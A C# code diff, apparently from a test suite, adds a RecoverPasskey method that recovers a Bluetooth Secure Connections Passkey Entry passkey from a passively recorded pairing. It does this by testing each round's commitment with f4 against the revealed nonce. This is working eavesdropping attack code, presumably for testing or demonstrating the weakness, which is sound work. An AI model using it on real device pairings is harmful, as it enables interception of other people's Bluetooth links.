@@ -69,6 +69,34 @@ internal static class SmpCapture
         return i;
     }
 
+    /// <summary>
+    /// What a passive eavesdropper does with one recorded Passkey Entry: each round reveals the nonce behind its
+    /// commitment, so trying both values of the round's bit in f4 gives the bit. Returns the passkey, or -1.
+    /// </summary>
+    public static int RecoverPasskey(List<(bool FromPhone, byte[] Pdu)> smp)
+    {
+        byte[] pka = smp.First(p => p.FromPhone && p.Pdu[0] == SmpCode.PairingPublicKey).Pdu;
+        byte[] pkb = smp.First(p => !p.FromPhone && p.Pdu[0] == SmpCode.PairingPublicKey).Pdu;
+        byte[] pkax = SmpCrypto.Reverse(pka.AsSpan(1, 32));
+        byte[] pkbx = SmpCrypto.Reverse(pkb.AsSpan(1, 32));
+        var confirms = smp.Where(p => p.FromPhone && p.Pdu[0] == SmpCode.PairingConfirm).Select(p => SmpCrypto.Reverse(p.Pdu.AsSpan(1))).ToList();
+        var nonces = smp.Where(p => p.FromPhone && p.Pdu[0] == SmpCode.PairingRandom).Select(p => SmpCrypto.Reverse(p.Pdu.AsSpan(1))).ToList();
+        int passkey = 0;
+        for (int round = 0; round < SmpCode.PasskeyRounds; round++)
+        {
+            if (SmpCrypto.F4(pkax, pkbx, nonces[round], 0x81).AsSpan().SequenceEqual(confirms[round]))
+            {
+                passkey |= 1 << round;
+            }
+            else if (!SmpCrypto.F4(pkax, pkbx, nonces[round], 0x80).AsSpan().SequenceEqual(confirms[round]))
+            {
+                return -1;
+            }
+        }
+
+        return passkey;
+    }
+
     private static byte[] Next(List<(bool FromPhone, byte[] Pdu)> smp, ref int i, bool fromPhone, byte code, int length)
     {
         Assert.True(i < smp.Count, $"the capture ends before SMP 0x{code:X2}");
